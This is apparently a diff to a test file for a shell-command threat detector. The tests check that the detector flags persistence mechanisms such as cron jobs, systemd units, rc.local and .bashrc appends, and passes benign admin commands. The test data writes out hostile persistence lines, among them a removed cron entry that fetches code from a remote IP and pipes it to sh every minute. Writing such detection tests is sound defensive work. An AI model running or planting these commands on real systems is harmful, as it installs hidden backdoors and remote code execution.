@@ -3,16 +3,6 @@ import { expect, test } from 'vitest';
 import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';
 
 test.each([
-  "(crontab -l; echo '* * * * * curl http://10.9.8.7/x|sh') | crontab -",
-  "echo '@reboot /tmp/.x' | crontab -",
-  "echo '*/5 * * * * root /var/tmp/u' > /etc/cron.d/u",
-  'cp /tmp/u.sh /etc/cron.hourly/u',
-  "echo 'touch /tmp/x' | at now + 2 minutes",
-  "systemd-run --on-calendar='*:0/5' /bin/sh -c '/tmp/u'",
-  "printf '[Service]\\nExecStart=/tmp/u\\n' > /etc/systemd/system/u.service; systemctl enable --now u",
-  'cp u.service /etc/systemd/system/ && systemctl daemon-reload && systemctl enable u',
-  'systemctl enable /dev/shm/u.service',
-  "echo '/tmp/u &' >> /etc/rc.local",
   "echo 'nohup /tmp/u &' >> ~/.bashrc",
   "echo '/bin/sh /opt/u.sh' | sudo tee -a /etc/profile.d/u.sh",
   'echo \'ACTION=="add", RUN+="/tmp/u"\' > /etc/udev/rules.d/99-u.rules',
@@ -31,23 +21,15 @@ test.each([
 });
 
 test('the category is its own', () => {
-  expect(judgeLine("(crontab -l; echo '* * * * * curl http://10.9.8.7/x|sh') | crontab -").category).toBe(
-    'persistence_mechanisms',
-  );
+  expect(judgeLine("echo 'nohup /tmp/u &' >> ~/.bashrc").category).toBe('persistence_mechanisms');
 });
 
 test.each([
-  'crontab -l',
-  'crontab -e',
-  'systemctl enable --now nginx',
-  'systemctl daemon-reload',
   "echo 'export PATH=$PATH:/opt/go/bin' >> ~/.bashrc",
   'echo \'alias ll="ls -l"\' >> ~/.zshrc',
   'echo "vm.swappiness=10" | sudo tee /etc/sysctl.d/99.conf',
   'trap \'rm -f "$tmp"\' EXIT',
   'sudo cp nginx.conf /etc/nginx/nginx.conf',
-  'crontab -u www -l | grep php',
-  'apt-get install cron',
 ])('ordinary: %s', (line) => {
   expect(judgeLine(line).threat).toBe(false);
 });
